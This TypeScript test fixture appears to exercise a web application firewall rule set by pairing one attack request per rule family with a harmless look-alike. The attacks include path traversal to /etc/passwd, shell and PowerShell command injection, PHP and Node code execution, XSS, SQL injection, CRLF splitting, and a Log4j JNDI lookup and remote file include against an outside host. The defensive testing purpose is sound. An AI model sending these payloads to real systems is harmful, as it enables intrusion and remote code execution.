/**
 * One attack of each family that a rule set is there for, and its neighbour: what an honest client sends that looks
 * much like it.
 */
export type FamilyRequest = {
  readonly method?: string;
  readonly target: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
};

export type AttackFamily = {
  readonly name: string;
  /** What identifiers of its rules begin with. */
  readonly rules: string;
  readonly attack: FamilyRequest;
  readonly neighbour: FamilyRequest;
};

const query = (text: string): FamilyRequest => ({ target: `/?x=${encodeURIComponent(text)}` });
const agent = (text: string): FamilyRequest => ({ target: '/', headers: { 'user-agent': text } });
const form = (text: string): FamilyRequest => ({
  method: 'POST',
  target: '/comments',
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
  body: `comment=${encodeURIComponent(text)}`,
});
const json = (value: unknown): FamilyRequest => ({
  method: 'POST',
  target: '/api/orders',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(value),
});

export const attackFamilies: readonly AttackFamily[] = [
  {
    name: 'a method nobody serves',
    rules: '911',
    attack: { method: 'PROPFIND', target: '/' },
    neighbour: { method: 'OPTIONS', target: '/' },
  },
  {
    name: 'a scanner that says so',
    rules: '913',
    attack: agent('sqlmap/1.8#stable (https://sqlmap.org)'),
    neighbour: agent('Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'),
  },
  {
    name: 'a zero byte',
    rules: '920',
    attack: query('report.pdf\0.php'),
    neighbour: query('report.pdf .php'),
  },
  {
    name: 'a response that is split',
    rules: '921',
    attack: query('en\r\nSet-Cookie: admin=1'),
    neighbour: query('en, Set cookie: yes'),
  },
  {
    name: 'a path out of the root',
    rules: '930',
    attack: query('../../../../etc/passwd'),
    neighbour: query('reports/passwords-and-you.html'),
  },
  {
    name: 'a file of somebody else',
    rules: '931',
    attack: query('http://203.0.113.7/shell.txt?'),
    neighbour: query('http, explained'),
  },
  {
    name: 'a command of a Unix shell',
    rules: '932',
    attack: query(';cat /etc/passwd'),
    neighbour: query('cat, dog and passport'),
  },
  {
    name: 'a command of PowerShell',
    rules: '932',
    attack: query('| powershell -nop Invoke-Expression'),
    neighbour: query('power tools and shelves'),
  },
  {
    name: 'PHP',
    rules: '933',
    attack: query("<?php system('id'); ?>"),
    neighbour: query('the manual of PHP'),
  },
  {
    name: 'JavaScript of a server',
    rules: '934',
    attack: query("require('child_process').exec('id')"),
    neighbour: query('a child requires a process'),
  },
  {
    name: 'a script in a query',
    rules: '941',
    attack: query('<script>alert(1)</script>'),
    neighbour: query('a script for 2 actors'),
  },
  {
    name: 'a script in a form',
    rules: '941',
    attack: form('<img src=x onerror=alert(1)>'),
    neighbour: form('an image of x, on error ask me'),
  },
  {
    name: 'SQL in a query',
    rules: '942',
    attack: query("1' UNION SELECT password FROM users-- -"),
    neighbour: query('western union, select branches'),
  },
  {
    name: 'SQL in JSON',
    rules: '942',
    attack: json({ id: "1' or '1'='1' -- -" }),
    neighbour: json({ id: "one or the other, it's up to you" }),
  },
  {
    name: 'a session that is given',
    rules: '943',
    attack: query('<a onclick="document.cookie=\'sessionid=1; domain=.example.org; path=/\'">'),
    neighbour: query('what is a session cookie?'),
  },
  {
    name: 'a look-up of Log4j',
    rules: '944',
    attack: query('${jndi:ldap://203.0.113.7/a}'),
    neighbour: query('the price of java beans'),
  },
];

export async function statusOf(
  origin: string,
  { method = 'GET', target, headers = {}, body }: FamilyRequest,
): Promise<number> {
  const answer = await fetch(`${origin}${target}`, {
    method,
    headers: { 'user-agent': 'Mozilla/5.0', accept: '*/*', ...headers },
    ...(body === undefined ? {} : { body }),
  });
  await answer.arrayBuffer();
  return answer.status;
}
